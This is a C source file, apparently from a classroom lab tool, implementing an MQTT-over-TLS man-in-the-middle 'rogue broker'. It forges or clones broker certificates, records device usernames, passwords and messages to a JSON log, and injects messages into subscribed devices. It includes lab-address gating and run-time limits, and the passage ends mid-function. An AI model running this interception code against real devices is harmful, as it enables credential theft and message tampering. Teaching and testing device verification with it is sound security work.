#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <unistd.h>

#include <arpa/inet.h>
#include <netinet/in.h>
#include <openssl/err.h>
#include <openssl/evp.h>
#include <openssl/x509v3.h>

#include "mitm-int.h"
#include "mqttls/util.h"
#include "mqttls/version.h"

/* ---- tables ---------------------------------------------------------------------------------- */

static const char *const ev_names[] = {
	[MITM_EV_LISTENING] = "listening", [MITM_EV_HANDSHAKE] = "handshake",
	[MITM_EV_CONNECT] = "connect", [MITM_EV_CONNACK] = "connack", [MITM_EV_PUBLISH] = "publish",
	[MITM_EV_SUBSCRIBE] = "subscribe", [MITM_EV_INJECT] = "inject", [MITM_EV_UPSTREAM] = "upstream",
	[MITM_EV_PACKET] = "packet", [MITM_EV_MALFORMED] = "malformed", [MITM_EV_REFUSED] = "refused",
	[MITM_EV_CLOSED] = "closed", [MITM_EV_STOPPED] = "stopped",
};

const char *mitm_event_name(enum mitm_ev_type t)
{
	return (unsigned)t < MQ_ARRAY_LEN(ev_names) && ev_names[t] ? ev_names[t] : "unknown";
}

static const char *const dir_names[] = { "device_to_broker", "broker_to_device" };

/* ---- topics ---------------------------------------------------------------------------------- */

bool mitm_topic_match(const char *filter, size_t flen, const char *topic, size_t tlen)
{
	size_t f = 0, t = 0;

	/* A filter starting with a wildcard does not match $SYS-style topics (MQTT 4.7.2). */
	if (tlen && topic[0] == '$' && flen && (filter[0] == '#' || filter[0] == '+'))
		return false;
	while (f < flen) {
		if (filter[f] == '#')
			return f + 1 == flen && (f == 0 || filter[f - 1] == '/');
		if (filter[f] == '+') {
			while (t < tlen && topic[t] != '/')
				t++;
			f++;
		} else {
			if (t >= tlen) {
				/* "a/#" also matches "a" itself */
				return flen - f == 2 && filter[f] == '/' && filter[f + 1] == '#';
			}
			if (filter[f] != topic[t])
				return false;
			f++;
			t++;
		}
	}
	return t == tlen;
}

/* ---- events and the JSON log ---------------------------------------------------------------- */

static double wall_now(void)
{
	struct timeval tv;
	gettimeofday(&tv, NULL);
	return (double)tv.tv_sec + tv.tv_usec / 1e6;
}

/* The loop's cached clock: every event of one loop pass happened "now" (no syscall each). */
static double loop_now(struct mitm *m)
{
	struct timeval tv;
	if (event_base_gettimeofday_cached(m->base, &tv) < 0)
		return wall_now();
	return (double)tv.tv_sec + tv.tv_usec / 1e6;
}

void mitm_event_init(struct mitm_event *ev, enum mitm_ev_type type, const struct mitm_victim *vi)
{
	memset(ev, 0, sizeof *ev);
	ev->type = type;
	ev->packet_id = -1;
	ev->code = -1;
	if (vi) {
		ev->victim = vi->id;
		ev->client = vi->addr;
		ev->protocol = vi->version;
	}
}

/*
 * The log line is written directly (a busy relay logs tens of thousands of events a second;
 * building a cJSON tree per event cost more than relaying the packet). mitm_event_to_json()
 * parses this same text, so there is one definition of every shape.
 */
/* mq_str_append without the call when the line buffer (reused for every line) has room. */
static inline void put(struct mq_str *s, const char *d, size_t n)
{
	if (s->len + n + 1 <= s->cap) {
		memcpy(s->s + s->len, d, n);
		s->len += n;
		s->s[s->len] = '\0';
	} else {
		mq_str_append(s, d, n);
	}
}

struct jw {
	struct mq_str *s;
	bool first;
};

static void jw_key(struct jw *w, const char *k)
{
	put(w->s, w->first ? "{\"" : ",\"", 2);
	put(w->s, k, strlen(k));
	put(w->s, "\":", 2);
	w->first = false;
}

/* Valid UTF-8 (checked by the caller) as a JSON string body. */
static void jw_escaped(struct mq_str *s, const uint8_t *p, size_t n)
{
	static const char hex[] = "0123456789abcdef";
	size_t run = 0;

	if (n == 0 || !p) {
		put(s, "\"\"", 2);
		return;
	}
	put(s, "\"", 1);
	for (size_t i = 0; i < n; i++) {
		uint8_t c;
		/* Payloads are mostly plain text: skip 8 bytes at a time while none needs escaping. */
		while (i + 8 <= n) {
			uint64_t x;
			memcpy(&x, p + i, 8);
			const uint64_t ones = 0x0101010101010101ull, highs = 0x8080808080808080ull;
			uint64_t q = x ^ (ones * '"'), b = x ^ (ones * '\\');
			uint64_t hit = ((x - ones * 0x20) & ~x) | ((q - ones) & ~q) | ((b - ones) & ~b);
			if (hit & highs)
				break;
			i += 8;
		}
		if (i >= n)
			break;
		c = p[i];
		if (c >= 0x20 && c != '"' && c != '\\')
			continue;
		put(s, (const char *)p + run, i - run);
		run = i + 1;
		if (c == '"' || c == '\\') {
			char e[2] = { '\\', (char)c };
			put(s, e, 2);
		} else {
			char e[6] = { '\\', 'u', '0', '0', hex[c >> 4], hex[c & 15] };
			put(s, e, 6);
		}
	}
	put(s, (const char *)p + run, n - run);
	put(s, "\"", 1);
}

static void jw_str(struct jw *w, const char *k, const char *v)
{
	if (!v)
		return;
	jw_key(w, k);
	if (mq_utf8_valid(v, strlen(v))) {
		jw_escaped(w->s, (const uint8_t *)v, strlen(v));
	} else {
		char *e = mq_escape_dup(v, strlen(v));   /* our own strings are ASCII; be safe anyway */
		jw_escaped(w->s, (const uint8_t *)(e ? e : ""), e ? strlen(e) : 0);
		free(e);
	}
}

/* Decimal digits of v into the end of buf; returns where they start (printf is too slow here). */
static char *digits(char *end, unsigned long long v)
{
	do {
		*--end = (char)('0' + v % 10);
		v /= 10;
	} while (v);
	return end;
}

static void jw_num(struct jw *w, const char *k, double v)
{
	char buf[48], *end = buf + sizeof buf, *p;

	jw_key(w, k);
	if (v >= 0 && v < 1e15) {
		/* Counters are whole; time stamps get microseconds. */
		unsigned long long us = (unsigned long long)(v * 1e6 + 0.5), whole = us / 1000000, frac = us % 1000000;
		if (frac) {
			p = digits(end, frac);
			while (end - p < 6)
				*--p = '0';
			*--p = '.';
			p = digits(p, whole);
		} else {
			p = digits(end, (unsigned long long)v);
		}
		put(w->s, p, (size_t)(end - p));
		return;
	}
	int n = snprintf(buf, sizeof buf, "%.6f", v);
	put(w->s, buf, (size_t)n);
}

static void jw_bool(struct jw *w, const char *k, bool v)
{
	jw_key(w, k);
	put(w->s, v ? "true" : "false", v ? 4 : 5);
}

static void jw_null(struct jw *w, const char *k)
{
	jw_key(w, k);
	put(w->s, "null", 4);
}

/* Untrusted bytes: a JSON string when they are clean UTF-8, else base64 with NAME_base64: true;
 * more than cap bytes are cut, with NAME_truncated: true. */
static void jw_bytes(struct jw *w, const char *name, const uint8_t *p, size_t n, size_t cap)
{
	char key[64];
	bool cut = n > cap;

	if (cut)
		n = cap;
	jw_key(w, name);
	if (mq_utf8_valid(p, n)) {
		jw_escaped(w->s, p, n);
	} else {
		size_t outlen = 4 * ((n + 2) / 3) + 1;
		char *b = malloc(outlen);
		if (b) {
			int len = EVP_EncodeBlock((unsigned char *)b, p, (int)n);
			put(w->s, "\"", 1);
			put(w->s, b, len > 0 ? (size_t)len : 0);
			put(w->s, "\"", 1);
			free(b);
		} else {
			put(w->s, "\"\"", 2);
		}
		snprintf(key, sizeof key, "%s_base64", name);
		jw_bool(w, key, true);
	}
	if (cut) {
		snprintf(key, sizeof key, "%s_truncated", name);
		jw_bool(w, key, true);
	}
}

void mitm_event_to_jsonl(const struct mitm_event *ev, struct mq_str *out)
{
	struct jw w = { out, true };
	const size_t cap = MITM_LOG_PAYLOAD_MAX;

	jw_str(&w, "event", mitm_event_name(ev->type));
	jw_num(&w, "ts", ev->ts);
	jw_str(&w, "client", ev->client);
	if (ev->victim)
		jw_num(&w, "victim", ev->victim);
	switch (ev->type) {
	case MITM_EV_LISTENING:
		jw_str(&w, "banner", MITM_BANNER);
		jw_str(&w, "listen", ev->listen);
		jw_str(&w, "upstream", ev->upstream);
		jw_str(&w, "mode", ev->mode);
		jw_str(&w, "forged_subject", ev->forged_subject);
		jw_str(&w, "forged_issuer", ev->forged_issuer);
		jw_str(&w, "forged_sans", ev->forged_sans);
		jw_str(&w, "forged_sha256", ev->forged_sha256);
		jw_num(&w, "duration", ev->duration);
		jw_num(&w, "max_conns", ev->max_conns);
		break;
	case MITM_EV_HANDSHAKE:
		jw_str(&w, "result", ev->result);
		jw_str(&w, "alert", ev->alert);
		jw_str(&w, "reason", ev->reason);
		jw_str(&w, "tls_version", ev->tls_version);
		jw_str(&w, "cipher", ev->cipher);
		jw_str(&w, "sni", ev->sni);
		break;
	case MITM_EV_CONNECT:
		jw_bytes(&w, "client_id", ev->client_id, ev->client_id_len, cap);
		if (ev->has_username)
			jw_bytes(&w, "username", ev->username, ev->username_len, cap);
		else
			jw_null(&w, "username");
		if (ev->has_password)
			jw_bytes(&w, "password", ev->password, ev->password_len, cap);
		else
			jw_null(&w, "password");
		jw_str(&w, "protocol", mqttdec_version_name(ev->protocol));
		jw_num(&w, "keepalive", ev->keepalive);
		jw_bool(&w, "clean", ev->clean);
		if (ev->has_will) {
			jw_bytes(&w, "will_topic", ev->topic, ev->topic_len, cap);
			jw_bytes(&w, "will_payload", ev->payload, ev->payload_len, cap);
			jw_num(&w, "will_qos", ev->qos);
			jw_bool(&w, "will_retain", ev->retain);
		}
		break;
	case MITM_EV_PUBLISH:
	case MITM_EV_INJECT:
		if (ev->type == MITM_EV_PUBLISH)
			jw_str(&w, "dir", dir_names[ev->dir & 1]);
		jw_bytes(&w, "topic", ev->topic, ev->topic_len, cap);
		jw_bytes(&w, "payload", ev->payload, ev->payload_len, cap);
		jw_num(&w, "bytes", (double)ev->payload_len);
		jw_num(&w, "qos", ev->qos);
		jw_bool(&w, "retain", ev->retain);
		if (ev->dup)
			jw_bool(&w, "dup", true);
		if (ev->packet_id >= 0)
			jw_num(&w, "packet_id", ev->packet_id);
		if (ev->has_will)
			jw_bool(&w, "will", true);
		break;
	case MITM_EV_SUBSCRIBE:
		jw_bytes(&w, "topic", ev->topic, ev->topic_len, cap);
		jw_num(&w, "qos", ev->qos);
		break;
	case MITM_EV_CONNACK:
	case MITM_EV_PACKET:
		jw_str(&w, "dir", dir_names[ev->dir & 1]);
		jw_str(&w, "packet", ev->packet);
		if (ev->packet_id >= 0)
			jw_num(&w, "packet_id", ev->packet_id);
		if (ev->code >= 0)
			jw_num(&w, "code", ev->code);
		jw_str(&w, "meaning", ev->meaning);
		jw_str(&w, "reason", ev->reason);
		break;
	case MITM_EV_MALFORMED:
		jw_str(&w, "dir", dir_names[ev->dir & 1]);
		jw_str(&w, "reason", ev->reason);
		break;
	case MITM_EV_UPSTREAM:
		jw_str(&w, "result", ev->result);
		jw_str(&w, "upstream", ev->upstream);
		jw_str(&w, "reason", ev->reason);
		jw_str(&w, "tls_version", ev->tls_version);
		break;
	case MITM_EV_CLOSED:
		jw_str(&w, "reason", ev->reason);
		jw_num(&w, "packets_device_to_broker", (double)ev->packets[MITM_D2B]);
		jw_num(&w, "packets_broker_to_device", (double)ev->packets[MITM_B2D]);
		jw_num(&w, "bytes_device_to_broker", (double)ev->bytes[MITM_D2B]);
		jw_num(&w, "bytes_broker_to_device", (double)ev->bytes[MITM_B2D]);
		break;
	case MITM_EV_REFUSED:
	case MITM_EV_STOPPED:
		jw_str(&w, "reason", ev->reason);
		break;
	}
	mq_str_append(out, "}", 1);
}

cJSON *mitm_event_to_json(const struct mitm_event *ev)
{
	struct mq_str s = { 0 };
	cJSON *o;

	mitm_event_to_jsonl(ev, &s);
	o = s.s ? cJSON_Parse(s.s) : NULL;
	mq_str_free(&s);
	return o;
}

static void log_line(struct mitm *m, const char *line, size_t len)
{
	if (!m->log)
		return;
	fwrite(line, 1, len, m->log);
	fputc('\n', m->log);
	/* Flushed once the loop has handled what is ready (not per line: a busy relay writes
	 * thousands a second), so "tail -f" still shows each event as it happens. */
	if (m->log_flush)
		event_active(m->log_flush, EV_TIMEOUT, 0);   /* again while active: no-op */
	else
		fflush(m->log);
}

static void on_log_flush(evutil_socket_t fd, short what, void *arg)
{
	struct mitm *m = arg;
	(void)fd;
	(void)what;
	if (m->log)
		fflush(m->log);
}

void mitm_emit(struct mitm *m, struct mitm_event *ev)
{
	ev->ts = loop_now(m);
	if (m->log) {
		m->line.len = 0;   /* one buffer reused for every line */
		mitm_event_to_jsonl(ev, &m->line);
		log_line(m, m->line.s, m->line.len);
	}
	if (m->obs)
		m->obs(ev, m->obs_arg);
}

static int open_log(struct mitm *m, const char *path, bool force, struct mq_err *err)
{
	struct stat st;
	bool existed = lstat(path, &st) == 0;
	int fd;
	char *line;
	cJSON *o;

	if (existed && S_ISDIR(st.st_mode)) {
		mq_errf(err, "--json-log %s is a directory: give a file name", path);
		return -1;
	}
	fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC | O_NOFOLLOW | (force ? O_TRUNC : O_EXCL), 0600);
	if (fd < 0) {
		if (errno == EEXIST)
			mq_errf(err, "%s already exists: use --force to replace it", path);
		else
			mq_errf_errno(err, "cannot create %s", path);
		return -1;
	}
	/* A log this run made is removed again when the run never starts, so that the same command
	 * can simply be run again once the cause is fixed. */
	if (!existed && !(m->log_path = strdup(path))) {
		mq_errf(err, "out of memory");
		close(fd);
		return -1;
	}
	/* Credentials end up in this file: never readable by others, even when it existed before. */
	if (fchmod(fd, 0600) < 0 || !(m->log = fdopen(fd, "w")) || setvbuf(m->log, NULL, _IOFBF, 1 << 16)) {
		mq_errf_errno(err, "cannot open %s", path);
		close(fd);
		return -1;
	}
	o = cJSON_CreateObject();
	cJSON_AddStringToObject(o, "event", "banner");
	cJSON_AddNumberToObject(o, "ts", wall_now());
	cJSON_AddStringToObject(o, "banner", MITM_BANNER);
	cJSON_AddStringToObject(o, "text", MITM_BANNER ": a rogue broker for a classroom lab; it shows "
				"credentials and messages of devices that do not verify the broker");
	cJSON_AddStringToObject(o, "tool", MQTTLS_NAME);
	cJSON_AddStringToObject(o, "version", MQTTLS_VERSION);
	line = cJSON_PrintUnformatted(o);
	cJSON_Delete(o);
	if (line)
		log_line(m, line, strlen(line));
	free(line);
	return 0;
}

/* ---- start -------------------------------------------------------------------------------- */

static char *xstrdup(const char *s)
{
	return s ? strdup(s) : NULL;
}

static void on_deadline(evutil_socket_t fd, short what, void *arg)
{
	struct mitm *m = arg;
	(void)fd;
	(void)what;
	snprintf(m->stop_buf, sizeof m->stop_buf, "the maximum run time (%.0f s) was reached; "
		 "use --duration to change it", m->duration);
	mitm_stop(m, m->stop_buf);
}

static void on_accept(struct evconnlistener *l, evutil_socket_t fd, struct sockaddr *sa, int salen, void *arg)
{
	(void)l;
	victim_accept(arg, fd, sa, salen);
}

static void on_accept_error(struct evconnlistener *l, void *arg)
{
	struct mitm *m = arg;
	struct mitm_event ev;
	int e = EVUTIL_SOCKET_ERROR();

	(void)l;
	/* Out of descriptors: say so, keep the victims we have, and go on accepting later. */
	mitm_event_init(&ev, MITM_EV_REFUSED, NULL);
	ev.reason = evutil_socket_error_to_string(e);
	mitm_emit(m, &ev);
}

static int bind_listener(struct mitm *m, const struct sockaddr_storage *ss, socklen_t len, struct mq_err *err)
{
	int one = 1;
	evutil_socket_t fd = socket(ss->ss_family, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);

	if (fd < 0) {
		mq_errf_errno(err, "cannot create the listening socket");
		return -1;
	}
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	if (ss->ss_family == AF_INET6)
		setsockopt(fd, IPPROTO_IPV6, IPV6_V6ONLY, &one, sizeof one);
	if (bind(fd, (const struct sockaddr *)ss, len) < 0) {
		mq_errf_errno(err, "cannot listen on %s", m->listen_str);
		close(fd);
		return -1;
	}
	m->lst = evconnlistener_new(m->base, on_accept, m,
				    LEV_OPT_CLOSE_ON_FREE | LEV_OPT_CLOSE_ON_EXEC | LEV_OPT_DISABLED, 512, fd);
	if (!m->lst) {
		mq_errf_errno(err, "cannot listen on %s", m->listen_str);
		close(fd);
		return -1;
	}
	evconnlistener_set_error_cb(m->lst, on_accept_error);
	return 0;
}

static void summarize_name(X509_NAME *n, char *buf, size_t size)
{
	BIO *b = BIO_new(BIO_s_mem());
	int len;

	buf[0] = '\0';
	if (!b)
		return;
	X509_NAME_print_ex(b, n, 0, XN_FLAG_RFC2253 & ~ASN1_STRFLGS_ESC_MSB);
	len = BIO_read(b, buf, (int)size - 1);
	buf[len > 0 ? len : 0] = '\0';
	BIO_free(b);
}

static void summarize_sans(X509 *x, char *buf, size_t size)
{
	GENERAL_NAMES *gens = X509_get_ext_d2i(x, NID_subject_alt_name, NULL, NULL);
	struct mq_str s = { 0 };

	buf[0] = '\0';
	for (int i = 0; gens && i < sk_GENERAL_NAME_num(gens); i++) {
		GENERAL_NAME *g = sk_GENERAL_NAME_value(gens, i);
		if (g->type == GEN_DNS) {
			const unsigned char *d = ASN1_STRING_get0_data(g->d.dNSName);
			char *e = mq_escape_dup(d, (size_t)ASN1_STRING_length(g->d.dNSName));
			mq_str_printf(&s, "%sDNS:%s", s.len ? ", " : "", e ? e : "");
			free(e);
		} else if (g->type == GEN_IPADD) {
			char ip[INET6_ADDRSTRLEN] = "?";
			int l = ASN1_STRING_length(g->d.iPAddress);
			const unsigned char *d = ASN1_STRING_get0_data(g->d.iPAddress);
			if (l == 4 || l == 16)
				inet_ntop(l == 4 ? AF_INET : AF_INET6, d, ip, sizeof ip);
			mq_str_printf(&s, "%sIP:%s", s.len ? ", " : "", ip);
		}
	}
	GENERAL_NAMES_free(gens);
	snprintf(buf, size, "%s", s.s ? s.s : "");
	mq_str_free(&s);
}

void mitm_forged_and_ready(struct mitm *m, X509 *tmpl)
{
	struct mq_err err = { 0 };
	struct mitm_event ev;
	char subj[512], iss[512], sans[1024], fp[100] = "";
	unsigned char md[EVP_MAX_MD_SIZE];
	unsigned mdlen = 0;

	m->fopts.tmpl = tmpl;
	if (forge_make(&m->fopts, &m->forged, &err) < 0) {
		mitm_fail_start(m, "%s", err.msg);
		return;
	}
	m->fopts.tmpl = NULL;
	m->srv_ctx = SSL_CTX_new(TLS_server_method());
	if (!m->srv_ctx || !SSL_CTX_use_certificate(m->srv_ctx, m->forged.cert) ||
	    !SSL_CTX_use_PrivateKey(m->srv_ctx, m->forged.key)) {
		mq_errf_ssl(&err, "cannot use the forged certificate");
		mitm_fail_start(m, "%s", err.msg);
		return;
	}
	for (int i = 0; i < sk_X509_num(m->forged.chain); i++)
		SSL_CTX_add1_chain_cert(m->srv_ctx, sk_X509_value(m->forged.chain, i));
	/* Devices as old as the tutorials' ESP32s speak TLS 1.2; accept down to it, up to 1.3. */
	SSL_CTX_set_min_proto_version(m->srv_ctx, TLS1_2_VERSION);
	SSL_CTX_set_options(m->srv_ctx, SSL_OP_NO_TICKET);
	SSL_CTX_set_info_callback(m->srv_ctx, victim_info_cb);
	evconnlistener_enable(m->lst);
	m->started = true;

	summarize_name(X509_get_subject_name(m->forged.cert), subj, sizeof subj);
	summarize_name(X509_get_issuer_name(m->forged.cert), iss, sizeof iss);
	summarize_sans(m->forged.cert, sans, sizeof sans);
	if (X509_digest(m->forged.cert, EVP_sha256(), md, &mdlen))
		for (unsigned i = 0; i < mdlen; i++)
			snprintf(fp + 3 * i, sizeof fp - 3 * i, "%02X%s", md[i], i + 1 < mdlen ? ":" : "");
	mitm_event_init(&ev, MITM_EV_LISTENING, NULL);
	ev.listen = m->listen_str;
	char up[300] = "";
	if (m->upstream_host)
		snprintf(up, sizeof up, strchr(m->upstream_host, ':') ? "[%s]:%d" : "%s:%d",
			 m->upstream_host, m->upstream_port);
	ev.upstream = m->upstream_host ? up : NULL;
	ev.mode = m->upstream_host ? "relay" : "rogue";
	ev.forged_subject = subj;
	ev.forged_issuer = iss;
	ev.forged_sans = sans;
	ev.forged_sha256 = fp;
	ev.duration = m->duration;
	ev.max_conns = m->max_conns;
	mitm_emit(m, &ev);
}

void mitm_fail_start(struct mitm *m, const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	vsnprintf(m->stop_buf, sizeof m->stop_buf, fmt, ap);
	va_end(ap);
	mitm_stop(m, m->stop_buf);
}

static int resolve_hostport(struct mitm *m, enum gate_role role, const char *spec, const char *what,
			    char **host_out, int *port_out, struct sockaddr_storage *addrs, socklen_t *lens,
			    size_t *n_out, struct mq_err *err)
{
	char host[256];
	int port, n;

	if (gate_split_hostport(spec, host, sizeof host, port_out, err) < 0) {
		mq_errf(err, "(%s)", what);
		return -1;
	}
	n = gate_resolve(&m->gate, role, host, *port_out, addrs, lens, GATE_MAX_ADDRS, err);
	if (n < 0)
		return -1;
	*n_out = (size_t)n;
	if (host_out && !(*host_out = strdup(host))) {
		mq_errf(err, "out of memory");
		return -1;
	}
	(void)port;
	return 0;
}

struct mitm *mitm_new(struct event_base *base, const struct mitm_opts *o, mitm_observer obs, void *arg,
		      struct mq_err *err)
{
	struct mitm *m = calloc(1, sizeof *m);
	struct sockaddr_storage lss[GATE_MAX_ADDRS];
	socklen_t llen[GATE_MAX_ADDRS];
	size_t nl = 0;
	int lport;

	if (!m) {
		mq_errf(err, "out of memory");
		return NULL;
	}
	m->base = base;
	m->obs = obs;
	m->obs_arg = arg;
	gate_init(&m->gate);
	m->max_conns = o->max_conns > 0 ? o->max_conns : MITM_DEFAULT_MAX_CONNS;
	m->duration = o->duration > 0 ? o->duration : MITM_DEFAULT_DURATION;
	m->max_packet = o->max_packet ? o->max_packet : MITM_DEFAULT_MAX_PACKET;
	m->keep_max = o->keep_max ? o->keep_max : 10000;

	/* 1. Every address through the gate, before any socket exists. */
	if (!o->listen) {
		mq_errf(err, "--listen ADDR:PORT is required");
		goto fail;
	}
	for (size_t i = 0; i < o->n_lab_bind; i++)
		if (gate_add_lab(&m->gate, o->lab_bind[i], err) < 0)
			goto fail;
	if (resolve_hostport(m, GATE_LISTEN, o->listen, "--listen", NULL, &lport, lss, llen, &nl, err) < 0)
		goto fail;
	gate_set_listen(&m->gate, (struct sockaddr *)&lss[0], llen[0]);
	gate_addr_str((struct sockaddr *)&lss[0], m->listen_str, sizeof m->listen_str);
	if (o->upstream) {
		if (!o->upstream_cafile) {
			mq_errf(err, "--upstream needs --upstream-cafile: the relay only talks to a broker it has verified");
			goto fail;
		}
		if (resolve_hostport(m, GATE_UPSTREAM, o->upstream, "--upstream", &m->upstream_host,
				     &m->upstream_port, m->up_addr, m->up_len, &m->n_up, err) < 0)
			goto fail;
	} else if (o->upstream_cafile || o->upstream_cert || o->upstream_key) {
		mq_errf(err, "--upstream-cafile, --upstream-cert and --upstream-key need --upstream");
		goto fail;
	}
	if (o->clone) {
		if (mq_file_exists(o->clone)) {
			m->clone_file = xstrdup(o->clone);
		} else if (strchr(o->clone, ':')) {
			if (resolve_hostport(m, GATE_UPSTREAM, o->clone, "--clone", &m->clone_host, &m->clone_port,
					     m->clone_addr, m->clone_len, &m->n_clone, err) < 0)
				goto fail;
		} else {
			mq_errf(err, "--clone %s: no such certificate file (or give HOST:PORT to fetch it from)", o->clone);
			goto fail;
		}
	}

	/* 2. Copy the rest of the options. */
	m->fopts = o->forge;
	m->fopts.tmpl = NULL;
	m->ca_cert = xstrdup(o->forge.ca_cert);
	m->ca_key = xstrdup(o->forge.ca_key);
	m->fopts.ca_cert = m->ca_cert;
	m->fopts.ca_key = m->ca_key;
	if (o->forge.n_names) {
		m->names = calloc(o->forge.n_names, sizeof *m->names);
		if (!m->names)
			goto oom;
		for (size_t i = 0; i < o->forge.n_names; i++)
			if (!(m->names[i] = strdup(o->forge.names[i])))
				goto oom;
		m->fopts.names = (const char *const *)m->names;
	}
	if (o->n_inject) {
		m->inject = calloc(o->n_inject, sizeof *m->inject);
		if (!m->inject)
			goto oom;
		m->n_inject = o->n_inject;
		for (size_t i = 0; i < o->n_inject; i++) {
			m->inject[i].topic = strdup(o->inject[i].topic);
			m->inject[i].payload = strdup(o->inject[i].payload);
			if (!m->inject[i].topic || !m->inject[i].payload)
				goto oom;
		}
	}
	if (o->upstream &&
	    !(m->up_ctx = upstream_ctx_new(o->upstream_cafile, o->upstream_cert, o->upstream_key, err)))
		goto fail;

	/* 3. The log, the listener (disabled until the forgery exists), the clock. */
	if (o->json_log && open_log(m, o->json_log, o->force, err) < 0)
		goto fail;
	if (m->log && !(m->log_flush = event_new(base, -1, 0, on_log_flush, m)))
		goto oom;
	if (bind_listener(m, &lss[0], llen[0], err) < 0)
		goto fail;
	m->deadline = evtimer_new(base, on_deadline, m);
	if (!m->deadline)
		goto oom;
	struct timeval tv = { (time_t)m->duration, (suseconds_t)((m->duration - (time_t)m->duration) * 1e6) };
	evtimer_add(m->deadline, &tv);

	/* 4. The certificate to clone: from a file now, or fetched on the loop. */
	if (m->clone_file) {
		X509 *t = forge_load_cert(m->clone_file, err);
		if (!t)
			goto fail;
		mitm_forged_and_ready(m, t);
		X509_free(t);
		if (!m->started) {
			mq_errf(err, "%s", m->stop_buf);
			goto fail;
		}
	} else if (m->clone_host || (m->upstream_host && m->fopts.n_names == 0)) {
		if (upstream_fetch_start(m, !m->clone_host, err) < 0)
			goto fail;
	} else {
		mitm_forged_and_ready(m, NULL);
		if (!m->started) {
			mq_errf(err, "%s", m->stop_buf);
			goto fail;
		}
	}
	return m;
oom:
	mq_errf(err, "out of memory");
fail:
	m->stopped = true;   /* no STOPPED event for a start that never happened */
	mitm_free(m);
	return NULL;
}

/* ---- stop ------------------------------------------------------------------------------------ */

static void finish_stop(struct mitm *m)
{
	struct mitm_event ev;

	if (m->stopped || m->victims)
		return;
	m->stopped = true;
	mitm_event_init(&ev, MITM_EV_STOPPED, NULL);
	ev.reason = m->stop_reason;
	mitm_emit(m, &ev);
}

void mitm_stop(struct mitm *m, const char *reason)
{
	if (m->stopping)
		return;
	m->stopping = true;
	if (reason != m->stop_buf)
		snprintf(m->stop_buf, sizeof m->stop_buf, "%s", reason ? reason : "stopped");
	m->stop_reason = m->stop_buf;
	if (m->lst) {
		evconnlistener_free(m->lst);
		m->lst = NULL;
	}
	if (m->fetch) {
		upstream_fetch_free(m->fetch);
		m->fetch = NULL;
	}
	if (m->deadline)
		evtimer_del(m->deadline);
	for (struct mitm_victim *vi = m->victims, *next; vi; vi = next) {
		next = vi->next;
		victim_close(vi, "the MITM is stopping");
	}
	finish_stop(m);
}

void mitm_victim_gone(struct mitm *m, struct mitm_victim *vi)
{
	if (vi->prev)
		vi->prev->next = vi->next;
	else if (m->victims == vi)
		m->victims = vi->next;
	if (vi->next)
		vi->next->prev = vi->prev;
	vi->prev = vi->next = NULL;
	if (m->stopping)
		finish_stop(m);
}

/* ---- the rogue broker's memory -------------------------------------------------------------- */

static void kept_clear(struct mitm_kept *k)
{
	free(k->topic);
	free(k->payload);
	memset(k, 0, sizeof *k);
}

static int kept_fill(struct mitm_kept *k, const uint8_t *topic, size_t tlen, const uint8_t *payload, size_t len)
{
	k->topic = malloc(tlen + 1);
	k->payload = malloc(len ? len : 1);
	if (!k->topic || !k->payload) {
		kept_clear(k);
		return -1;
	}
	memcpy(k->topic, topic, tlen);
	k->topic[tlen] = '\0';
	if (len)
		memcpy(k->payload, payload, len);
	k->topic_len = tlen;
	k->len = len;
	return 0;
}

void mitm_keep(struct mitm *m, const struct mitm_victim *vi, const struct mqtt_pkt *p)
{
	/* Memory is bounded; the JSON log keeps everything. */
	if (m->n_kept < m->keep_max && m->kept_bytes + p->payload.len <= (64u << 20)) {
		if (!m->kept) {
			m->kept = calloc(m->keep_max, sizeof *m->kept);
			if (!m->kept)
				return;
		}
		struct mitm_kept *k = &m->kept[m->n_kept];
		if (kept_fill(k, p->topic.p, p->topic.len, p->payload.p, p->payload.len) == 0) {
			k->qos = p->qos;
			k->retain = p->retain;
			k->victim = vi->id;
			m->n_kept++;
			m->kept_bytes += p->payload.len;
		}
	}
	if (p->retain) {
		size_t i;
		for (i = 0; i < m->n_retained; i++)
			if (m->retained[i].topic_len == p->topic.len &&
			    !memcmp(m->retained[i].topic, p->topic.p, p->topic.len))
				break;
		if (i < m->n_retained) {
			kept_clear(&m->retained[i]);
			if (p->payload.len == 0) {   /* an empty retained message deletes the topic's */
				m->retained[i] = m->retained[--m->n_retained];
				return;
			}
		} else {
			if (p->payload.len == 0 || m->n_retained >= MITM_MAX_RETAINED)
				return;
			if (!m->retained && !(m->retained = calloc(MITM_MAX_RETAINED, sizeof *m->retained)))
				return;
			m->n_retained++;
		}
		if (kept_fill(&m->retained[i], p->topic.p, p->topic.len, p->payload.p, p->payload.len) < 0)
			m->retained[i] = m->retained[--m->n_retained];
	}
}

void mitm_route(struct mitm *m, struct mitm_victim *from, const uint8_t *topic, size_t tlen,
		const uint8_t *payload, size_t len, bool retain, bool from_will)
{
	(void)retain;
	(void)from_will;
	for (struct mitm_victim *vi = m->victims; vi; vi = vi->next)
		if (vi != from && !vi->closing && vi->handshaken && victim_subscribed(vi, topic, tlen))
			(void)victim_publish(vi, topic, tlen, payload, len, false);
}

void mitm_deliver_retained(struct mitm *m, struct mitm_victim *vi, const char *filter, size_t flen)
{
	for (size_t i = 0; i < m->n_retained; i++)
		if (mitm_topic_match(filter, flen, m->retained[i].topic, m->retained[i].topic_len))
			(void)victim_publish(vi, (const uint8_t *)m->retained[i].topic, m->retained[i].topic_len,
					     m->retained[i].payload, m->retained[i].len, true);
}

int mitm_inject_now(struct mitm *m, const char *topic, const void *payload, size_t len)
{
	int n = 0;
	size_t tlen = strlen(topic);

	for (struct mitm_victim *vi = m->victims; vi; vi = vi->next) {
		if (vi->closing || !vi->handshaken || !victim_subscribed(vi, (const uint8_t *)topic, tlen))
			continue;
		if (victim_publish(vi, (const uint8_t *)topic, tlen, payload, len, false) == 0) {
			struct mitm_event ev;
			mitm_event_init(&ev, MITM_EV_INJECT, vi);
			ev.topic = (const uint8_t *)topic;
			ev.topic_len = tlen;
			ev.payload = payload;
			ev.payload_len = len;
			mitm_emit(m, &ev);
			n++;
		}
	}
	return n;
}

void mitm_get_stats(const struct mitm *m, struct mitm_stats *st)
{
	*st = m->st;
	st->kept = m->n_kept;
	st->gate_checked = m->gate.checked;
